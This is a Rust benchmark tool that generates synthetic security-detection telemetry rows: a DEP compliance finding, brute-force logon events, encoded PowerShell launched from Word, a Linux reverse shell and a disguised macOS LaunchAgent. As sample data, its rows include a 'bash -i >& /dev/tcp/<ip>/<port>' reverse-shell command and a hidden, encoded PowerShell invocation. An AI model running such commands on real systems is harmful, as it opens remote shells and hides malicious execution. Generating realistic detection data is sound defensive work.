//! A deterministic corpus generator for benchmarks: realistic `xdr_ioc_view` rows of
//! five kinds (Windows registry compliance, Windows logon, Windows process runtime
//! IOC, Linux runtime detection, macOS persistence), varied per line (hosts, IPs,
//! users, times, ids), about 30% wrapped in envelopes.
//!
//! ```sh
//! cargo run --release --example gen_corpus -- --bytes 100M --seed 1 > corpus.ndjson
//! ```
//!
//! The same `--seed` and `--bytes` always give the same bytes.

use std::io::{BufWriter, Write};

use serde_json::{Map, Value, json};

/// splitmix64: small, fast and deterministic.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len() as u64) as usize]
    }
    fn hex(&mut self, len: usize) -> String {
        let mut s = String::with_capacity(len);
        while s.len() < len {
            s.push_str(&format!("{:016x}", self.next()));
        }
        s.truncate(len);
        s
    }
    fn uuid(&mut self) -> String {
        let h = self.hex(32);
        format!(
            "{}-{}-{}-{}-{}",
            &h[..8],
            &h[8..12],
            &h[12..16],
            &h[16..20],
            &h[20..]
        )
    }
    fn ipv4(&mut self) -> String {
        format!(
            "{}.{}.{}.{}",
            1 + self.below(223),
            self.below(256),
            self.below(256),
            1 + self.below(254)
        )
    }
    fn mac(&mut self) -> String {
        let b = self.next().to_be_bytes();
        format!(
            "{:02x}:{:02x}:{:02x}:{:02x}:{:02x}:{:02x}",
            b[0], b[1], b[2], b[3], b[4], b[5]
        )
    }
}

const SITES: &[&str] = &["FIN", "HR", "MKT", "ENG", "OPS", "SALES", "DC", "LAB"];
const USERS: &[&str] = &[
    "j.mueller",
    "s.dubois",
    "a.nowak",
    "m.rossi",
    "k.tanaka",
    "l.garcia",
    "svc_backup",
    "Administrator",
    "zoë.keller",
    "o.çelik",
];
const GEO: &[(&str, &str, &str, &str)] = &[
    ("DE", "Germany", "Berlin", "10115"),
    ("FR", "France", "Lyon", "69001"),
    ("NL", "Netherlands", "Amsterdam", "1012"),
    ("CH", "Schweiz", "Zürich", "8001"),
    ("GB", "United Kingdom", "London", "EC1A"),
    ("US", "United States", "Austin", "73301"),
];

fn iso(epoch_ms: i64) -> String {
    let ts = jiff::Timestamp::from_millisecond(epoch_ms).expect("in range");
    ts.strftime("%Y-%m-%dT%H:%M:%S%.3fZ").to_string()
}

fn common(rng: &mut Rng, i: u64, t_ms: i64, platform: &str) -> Map<String, Value> {
    let (cc, country, city, postal) = GEO[rng.below(GEO.len() as u64) as usize];
    let site = rng.pick(SITES);
    let host = format!(
        "{site}-{}-{:04}",
        if platform == "windows" { "WS" } else { "SRV" },
        rng.below(5000)
    );
    let ip = rng.ipv4();
    let secs = t_ms.div_euclid(1000) * 1000;
    let mut m = Map::new();
    let mut put = |k: &str, v: Value| {
        m.insert(k.to_string(), v);
    };
    put("upload_size", json!(900 + rng.below(4000)));
    put("record_identifier", json!(rng.hex(40)));
    put("ioc_severity", json!(1 + rng.below(9)));
    put("folded", json!(0));
    put("meta_mac_address", json!(rng.mac()));
    put("endpoint_id", json!(rng.uuid()));
    put("meta_public_ip_country_code", json!(cc));
    put("meta_public_ip_postal", json!(postal));
    put("schema_version", json!("22"));
    put("ioc_detection_experiment_level", json!(0));
    put(
        "ioc_created_at",
        json!(iso(t_ms + 60_000 + rng.below(60_000) as i64)),
    );
    put(
        "ingestion_timestamp",
        json!(iso(t_ms + 15_000 + rng.below(9_000) as i64)),
    );
    put("numerics", json!(false));
    put("meta_public_ip", json!(ip));
    put("counter", json!(rng.below(100)));
    put("detection_id_dedup", json!(rng.hex(40)));
    put("meta_hostname", json!(host));
    put("ioc_worker_name", json!("Direct Mapping Worker"));
    put("ioc_unix_time", json!(iso(secs)));
    put("epoch", json!(t_ms / 1000 - rng.below(86_400 * 3) as i64));
    put("meta_ip_mask", json!("255.255.255.0"));
    put("meta_public_ip_city", json!(city));
    put("ioc_worker_id", json!("direct_mapping_worker"));
    put("unix_time", json!(iso(secs)));
    put("ioc_log_type", json!("summary"));
    put("query_source", json!("xdr_only"));
    put("host_identifier", json!(rng.uuid().to_uppercase()));
    put("partition_bucket", json!(rng.below(100).to_string()));
    put("meta_public_ip_country", json!(country));
    put("meta_public_ip_state", json!(city));
    put(
        "meta_boot_time",
        json!(t_ms / 1000 - 3600 - rng.below(86_400 * 10) as i64),
    );
    put("osquery_action", json!("added"));
    put(
        "meta_query_pack_version",
        json!(format!("1.{}.{}", 14 + rng.below(6), rng.below(100))),
    );
    put(
        "calendar_time",
        json!(if i % 7 == 3 { iso(t_ms) } else { iso(secs) }),
    );
    put("meta_eid", json!(rng.uuid()));
    put(
        "meta_public_ip_longitude",
        json!(rng.below(36_000) as f64 / 100.0 - 180.0),
    );
    put(
        "meta_public_ip_latitude",
        json!(rng.below(18_000) as f64 / 100.0 - 90.0),
    );
    put("meta_os_platform", json!(platform));
    put("meta_username", json!(rng.pick(USERS)));
    put("detection_identifier", json!(rng.hex(42)));
    put("ioc_detection_licenses", json!("[\"MTR\",\"XDR\"]"));
    put("meta_aggressive_activity", json!("False"));
    put(
        "meta_ip_address",
        json!(format!(
            "10.{}.{}.{}",
            rng.below(256),
            rng.below(256),
            1 + rng.below(254)
        )),
    );
    put("ingest_date", json!(&iso(t_ms)[..10]));
    put(
        "meta_endpoint_type",
        json!(if platform == "windows" && site != "DC" {
            "computer"
        } else {
            "server"
        }),
    );
    put(
        "meta_domain_controller",
        json!(if site == "DC" { "True" } else { "False" }),
    );
    put("customer_id", json!(rng.uuid()));
    put("message_identifier", json!(rng.hex(32)));
    m
}

fn sigma(id: &str, category: &str, platform: &str, reference: &str) -> String {
    json!({"id": id, "logsource": {"dedup_fields": ["machine_data.name"], "product": platform, "platform": platform, "category": category, "references": [reference]}}).to_string()
}

fn row(rng: &mut Rng, i: u64, t_ms: i64) -> Value {
    let kind = rng.below(5);
    let platform = match kind {
        3 => "linux",
        4 => "darwin",
        _ => "windows",
    };
    let mut m = common(rng, i, t_ms, platform);
    let mut put = |k: &str, v: Value| {
        m.insert(k.to_string(), v);
    };
    match kind {
        0 => {
            let reference =
                "https://learn.microsoft.com/windows/win32/memory/data-execution-prevention";
            put(
                "path",
                json!("HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\SystemStartOptions"),
            );
            put(
                "key",
                json!("HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control"),
            );
            put("name", json!("SystemStartOptions"));
            put("type", json!("REG_SZ"));
            put(
                "data",
                json!(format!(
                    " NOEXECUTE=OPTIN  FVEBOOT={}  NOVGA",
                    rng.below(9_999_999)
                )),
            );
            put("mtime", json!(t_ms / 1000 - 86_400));
            put(
                "analysis",
                json!("{\"dep_opt_out\":0,\"dep_alwayson\":0,\"dep_opt_in\":1}"),
            );
            put(
                "ioc_detection_sigma",
                json!(sigma(
                    "COMPLIANCE-DEP-PERMISSIVE",
                    "vulnerability_dep",
                    "windows",
                    reference
                )),
            );
            put("ioc_detection_cvss", json!("4"));
            put(
                "ioc_detection_access",
                json!("{\"authentication\":\"None\",\"complexity\":\"Low\",\"vector\":\"Local\"}"),
            );
            put(
                "ioc_detection_impact",
                json!(
                    "{\"availability\":\"Partial\",\"confidentiality\":\"Partial\",\"integrity\":\"Partial\"}"
                ),
            );
            put("ioc_detection_mitre_attack", json!("[]"));
            put(
                "ioc_detection_references",
                json!(format!("[\"{reference}\"]")),
            );
            put("ioc_detection_attack", json!("Exposure"));
            put("ioc_attack_type", json!("Exposure"));
            put("ioc_detection_type", json!("Vulnerability"));
            put("ioc_detection_category", json!("Vulnerability"));
            put("ioc_detection_id", json!("COMPLIANCE-DEP-PERMISSIVE"));
            put(
                "ioc_detection_description",
                json!("DEP is not Admin Opt-out or Always-on."),
            );
            put("query_name", json!("vulnerability_dep"));
            put("meta_os_name", json!("Microsoft Windows 11 Enterprise"));
            put("meta_os_version", json!("10.0.22631"));
            put("ioc_detection_weight", json!(4));
        }
        1 => {
            let reference = "https://learn.microsoft.com/windows/security/threat-protection/auditing/event-4625";
            put(
                "ioc_detection_sigma",
                json!(sigma(
                    "EVENT-Brute-Force-Attempt",
                    "windows_event",
                    "windows",
                    reference
                )),
            );
            put("remote_address", json!(rng.ipv4()));
            put("authentication_package", json!("NTLM"));
            put("remote_port", json!(0));
            put("eventid", json!(4625));
            put("logon_type", json!(3));
            put("status", json!("0xc000006d"));
            put("sub_status", json!("0xc0000064"));
            put(
                "username_list",
                json!("admin,administrator,backup,scanner,svc_sql,test,guest"),
            );
            put(
                "event_timestamps",
                json!(format!("{},{}", t_ms / 1000 - 120, t_ms / 1000)),
            );
            put("failure_reason", json!("%%2313"));
            put("transmitted_services", json!("-"));
            put("subject_username", json!("-"));
            put("subject_domain", json!("-"));
            put("workstation_name", json!("-"));
            put("key_length", json!(0));
            put(
                "provider_name",
                json!("Microsoft-Windows-Security-Auditing"),
            );
            put("source", json!("Security"));
            put("logon_process", json!("NtLmSsp "));
            put("target_domain", json!(""));
            put(
                "description",
                json!(
                    "Source IP is shuffling through 20 or more different usernames, appears to be a brute force attack"
                ),
            );
            put("ioc_detection_mitre_attack", json!("[]"));
            put(
                "ioc_detection_references",
                json!(format!("[\"{reference}\"]")),
            );
            put("ioc_detection_attack", json!("Suspicious Activity"));
            put("ioc_attack_type", json!("Suspicious Activity"));
            put("ioc_detection_type", json!("Threat"));
            put("ioc_detection_category", json!("Threat"));
            put("ioc_detection_id", json!("EVENT-4625-Brute-Force-Attempt"));
            put(
                "ioc_detection_description",
                json!("Windows Event Brute Force Attempt Detected."),
            );
            put(
                "query_name",
                json!("windows_event_invalid_logon_brute_force"),
            );
            put(
                "meta_os_name",
                json!("Microsoft Windows Server 2022 Standard"),
            );
            put("meta_os_version", json!("10.0.20348"));
            put("name", json!("-"));
            put("ioc_detection_weight", json!(5));
        }
        2 => {
            let pid = 1000 + rng.below(60_000);
            put(
                "process_cmd_line",
                json!(format!(
                    "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -w hidden -enc {}",
                    rng.hex(48)
                )),
            );
            put("process_name", json!("powershell.exe"));
            put(
                "process_path",
                json!("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
            );
            put("process_parent_name", json!("winword.exe"));
            put(
                "process_parent_path",
                json!("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
            );
            put("process_sha256", json!(rng.hex(64)));
            put("process_file_size", json!(450_000 + rng.below(10_000)));
            put("process_ml_score_band", json!("LIKELY_BENIGN"));
            put("process_sha256_reputation_band", json!("KNOWN_GOOD"));
            put("process_global_rep", json!(-1));
            put(
                "sophos_pid",
                json!(format!(
                    "{pid}:{}",
                    133_000_000_000_000_000u64 + rng.below(1_000_000_000)
                )),
            );
            put("ioc_event_threat_source", json!("Behavioral"));
            put(
                "ioc_event_path",
                json!("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
            );
            put(
                "process_local_rep_signers",
                json!(
                    "{\"reputationData\":{\"isSigned\":1,\"signerInfo\":[{\"isValid\":1,\"signer\":\"Microsoft Corporation\"}]}}"
                ),
            );
            put(
                "ioc_detection_mitre_attack",
                json!(
                    "[{\"tactic\":{\"id\":\"TA0002\",\"name\":\"Execution\",\"techniques\":[{\"id\":\"T1059.001\",\"name\":\"PowerShell\"}]}}]"
                ),
            );
            put(
                "ioc_detection_references",
                json!("[\"https://attack.mitre.org/techniques/T1059/001/\"]"),
            );
            put("ioc_detection_attack", json!("Execution"));
            put("ioc_attack_type", json!("Execution"));
            put("ioc_detection_type", json!("Threat"));
            put("ioc_detection_category", json!("Threat"));
            put(
                "ioc_detection_id",
                json!("WIN-EXE-PRC-POWERSHELL-ENCODED-1"),
            );
            put(
                "ioc_detection_description",
                json!("Encoded PowerShell launched by an Office application."),
            );
            put("query_name", json!("sophos_runtime_iocs_windows"));
            put("meta_os_name", json!("Microsoft Windows 10 Pro"));
            put("meta_os_version", json!("10.0.19045"));
            put("ioc_detection_weight", json!(7));
        }
        3 => {
            put(
                "process_cmd_line",
                json!(format!(
                    "/bin/bash -c bash -i >& /dev/tcp/{}/{} 0>&1",
                    rng.ipv4(),
                    1024 + rng.below(60_000)
                )),
            );
            put("process_name", json!("bash"));
            put("process_path", json!("/usr/bin/bash"));
            put("process_parent_name", json!("php-fpm8.2"));
            put("pid", json!(1000 + rng.below(60_000)));
            put("uid", json!(33));
            put("gid", json!(33));
            put(
                "ioc_detection_mitre_attack",
                json!(
                    "[{\"tactic\":{\"id\":\"TA0011\",\"name\":\"Command and Control\",\"techniques\":[{\"id\":\"T1059.004\",\"name\":\"Unix Shell\"}]}}]"
                ),
            );
            put("ioc_detection_references", json!("[]"));
            put("ioc_detection_attack", json!("Command and Control"));
            put("ioc_attack_type", json!("Command and Control"));
            put("ioc_detection_type", json!("Threat"));
            put("ioc_detection_category", json!("Threat"));
            put("ioc_detection_id", json!("LINUX-REVERSE-SHELL-1"));
            put(
                "ioc_detection_description",
                json!("A shell with its standard streams attached to a network socket."),
            );
            put("query_name", json!("sophos_runtime_detections_linux"));
            put("meta_os_name", json!("Debian GNU/Linux"));
            put("meta_os_version", json!("12 (bookworm)"));
            put("meta_username", json!("www-data"));
            put("ioc_detection_cvss", json!("None"));
            put("ioc_detection_weight", json!(6));
        }
        _ => {
            put(
                "path",
                json!(format!(
                    "/Users/{}/Library/LaunchAgents/com.apple.updater.{}.plist",
                    rng.pick(USERS),
                    rng.hex(6)
                )),
            );
            put("process_name", json!("launchctl"));
            put(
                "ioc_detection_mitre_attack",
                json!(
                    "[{\"tactic\":{\"id\":\"TA0003\",\"name\":\"Persistence\",\"techniques\":[{\"id\":\"T1543.001\",\"name\":\"Launch Agent\"}]}}]"
                ),
            );
            put(
                "ioc_detection_references",
                json!("[\"https://attack.mitre.org/techniques/T1543/001/\"]"),
            );
            put("ioc_detection_attack", json!("Persistence"));
            put("ioc_attack_type", json!("Persistence"));
            put("ioc_detection_type", json!("Threat"));
            put("ioc_detection_category", json!("Threat"));
            put("ioc_detection_id", json!("MAC-PERSIST-LAUNCHAGENT-1"));
            put(
                "ioc_detection_description",
                json!("A launch agent was written to ~/Library/LaunchAgents — «updater»."),
            );
            put("query_name", json!("sophos_runtime_detections_macos"));
            put("meta_os_name", json!("macOS"));
            put(
                "meta_os_version",
                json!(format!("14.{}.{}", rng.below(7), rng.below(3))),
            );
            put("ioc_severity", json!((3 + rng.below(5)).to_string()));
            put("ioc_detection_weight", json!(5));
        }
    }
    Value::Object(m)
}

fn parse_size(s: &str) -> Option<u64> {
    let (num, mult) = match s.chars().last()? {
        'K' | 'k' => (&s[..s.len() - 1], 1 << 10),
        'M' | 'm' => (&s[..s.len() - 1], 1 << 20),
        'G' | 'g' => (&s[..s.len() - 1], 1 << 30),
        _ => (s, 1),
    };
    num.parse::<u64>().ok().map(|n| n * mult)
}

fn main() -> std::io::Result<()> {
    let mut bytes = 10u64 << 20;
    let mut seed = 1u64;
    let mut args = std::env::args().skip(1);
    while let Some(a) = args.next() {
        match a.as_str() {
            "--bytes" => {
                bytes = args
                    .next()
                    .and_then(|s| parse_size(&s))
                    .expect("--bytes N[K|M|G]")
            }
            "--seed" => seed = args.next().and_then(|s| s.parse().ok()).expect("--seed N"),
            _ => {
                eprintln!("usage: gen_corpus [--bytes N[K|M|G]] [--seed N]");
                std::process::exit(2);
            }
        }
    }
    let mut rng = Rng(seed);
    let mut out = BufWriter::with_capacity(1 << 20, std::io::stdout().lock());
    let start_ms = 1_709_251_200_000i64; // 2024-03-01T00:00:00Z
    let (mut written, mut i) = (0u64, 0u64);
    let mut line = Vec::with_capacity(8192);
    while written < bytes {
        let t_ms = start_ms + (i as i64) * 350 + rng.below(1000) as i64;
        let r = row(&mut rng, i, t_ms);
        line.clear();
        if rng.below(10) < 3 {
            serde_json::to_writer(&mut line, &json!({ "message": r.to_string() }))?;
        } else {
            serde_json::to_writer(&mut line, &r)?;
        }
        line.push(b'\n');
        out.write_all(&line)?;
        written += line.len() as u64;
        i += 1;
    }
    out.flush()
}
